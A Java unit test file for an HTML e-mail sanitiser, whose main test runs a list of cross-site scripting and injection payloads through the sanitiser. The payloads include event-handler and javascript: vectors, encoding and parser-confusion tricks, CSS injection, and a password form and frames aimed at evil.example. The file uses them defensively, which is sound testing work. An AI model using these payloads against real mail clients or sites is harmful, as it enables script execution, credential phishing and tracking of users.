package org.postferry.mime.mime4j;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postferry.testkit.ProvesLimit;

class HtmlBodyTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\tscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"https://evil.example\"></object>",
                "<embed src=\"https://evil.example\">",
                "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<style>@import url(https://evil.example);</style>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<div style=\"background-image:url(https://evil.example/x.png)\">x</div>",
                "<div style=\"width: expression(alert(1))\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
                "<div style=\"color:red;\\75rl(https://evil.example)\">x</div>",
                "<table background=\"https://evil.example/x.png\"><tr><td>x</table>",
                "<img srcset=\"https://evil.example/x.png 2x\">",
                "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                "<video poster=\"https://evil.example/x.png\" src=\"https://evil.example/x.mp4\"></video>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
                "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
                "<p onclick=\"alert(1)\" onmouseover=alert(1)>x</p>",
                "<a href=\"https://ok.example\" target=_self ping=\"https://evil.example\">x</a>",
                "<<script>alert(1)//<</script>",
                "<template><script>alert(1)</script></template>",
                "<div id=\"postferry\" class=\"login\">x</div>"
            })
    void nothingDangerousSurvives(String payload) {
        String clean = new HtmlBody("<p>before</p>" + payload + "<p>after</p>").sanitised();

        assertTrue(clean.contains("before"), clean);
        for (Element element : Jsoup.parseBodyFragment(clean).body().getAllElements()) {
            assertFalse(
                    java.util.Set.of(
                                    "script",
                                    "iframe",
                                    "object",
                                    "embed",
                                    "form",
                                    "input",
                                    "button",
                                    "meta",
                                    "base",
                                    "link",
                                    "style",
                                    "svg",
                                    "math",
                                    "video",
                                    "template",
                                    "noscript",
                                    "textarea")
                            .contains(element.normalName()),
                    clean);
            for (Attribute attribute : element.attributes()) {
                assertHarmless(attribute, clean);
            }
        }
    }

    private static void assertHarmless(Attribute attribute, String clean) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        String value = attribute.getValue().strip().toLowerCase(Locale.ROOT);
        assertFalse(name.startsWith("on"), clean);
        assertFalse(
                java.util.Set.of("id", "class", "srcset", "background", "ping", "srcdoc")
                        .contains(name),
                clean);
        if (name.equals("href")) {
            assertTrue(value.startsWith("https:") || value.startsWith("http:") || value.startsWith("mailto:"), clean);
        }
        if (name.equals("src")) {
            assertTrue(value.startsWith("cid:") || value.startsWith("data:image/png"), clean);
        }
        if (name.equals("style")) {
            assertFalse(value.contains("url") || value.contains("expression") || value.contains("position"), clean);
        }
        if (name.equals("target")) {
            assertEquals("_blank", value);
        }
    }

    @Test
    void layoutAndLinksStay() {
        String html = "<table bgcolor=\"#fff\" width=\"600\"><tr><td style=\"color: rgb(1, 2, 3); padding: 4px\">"
                + "<a href=\"https://example.org/?a=b\">go</a></td></tr></table>";

        String clean = new HtmlBody(html).sanitised();

        assertTrue(clean.contains("color: rgb(1, 2, 3); padding: 4px"), clean);
        assertTrue(clean.contains("bgcolor=\"#fff\""), clean);
        assertTrue(clean.contains("href=\"https://example.org/?a=b\""), clean);
        assertTrue(clean.contains("rel=\"noopener noreferrer nofollow\""), clean);
    }

    @Test
    void remoteImagesAreCountedAndLeftOutAndOwnOnesStay() {
        HtmlBody body = new HtmlBody(
                "<img src=\"https://t.example/1.gif\"><img src=\"//t.example/2.gif\">"
                        + "<img src=\"cid:logo\"><img src=\"data:image/png;base64,AAAA\">"
                        + "<table><td background=\"http://t.example/3.gif\"><p style=\"background: url('https://t.example/4.gif')\">x");

        assertEquals(4, body.remoteImages());
        String clean = body.sanitised();
        assertFalse(clean.contains("t.example"), clean);
        assertTrue(clean.contains("cid:logo"), clean);
        assertTrue(clean.contains("data:image/png"), clean);
    }

    @Test
    @ProvesLimit("HtmlBody.MAX_DEPTH")
    void elementsAreNotDeeperThanTheLimit() {
        String clean = new HtmlBody("<div>".repeat(10_000) + "x").sanitised();

        int open = clean.split("<div>", -1).length;
        assertTrue(clean.indexOf("</div></div></div>") > 0);
        int depth = 0;
        int deepest = 0;
        for (Element element = Jsoup.parse(clean).body().selectFirst("div");
                element != null;
                element = element.selectFirst("> div")) {
            deepest = Math.max(deepest, ++depth);
        }
        assertTrue(deepest <= HtmlBody.MAX_DEPTH, deepest + " of " + open);
    }

    @Test
    @ProvesLimit("InlineStyle.MAX_LENGTH")
    void anOverlongStyleIsDropped() {
        assertEquals("", InlineStyle.sanitised("color: red; ".repeat(1_000)));
        assertEquals("color: red; color: red", InlineStyle.sanitised("color: red; ".repeat(2)));
    }
}
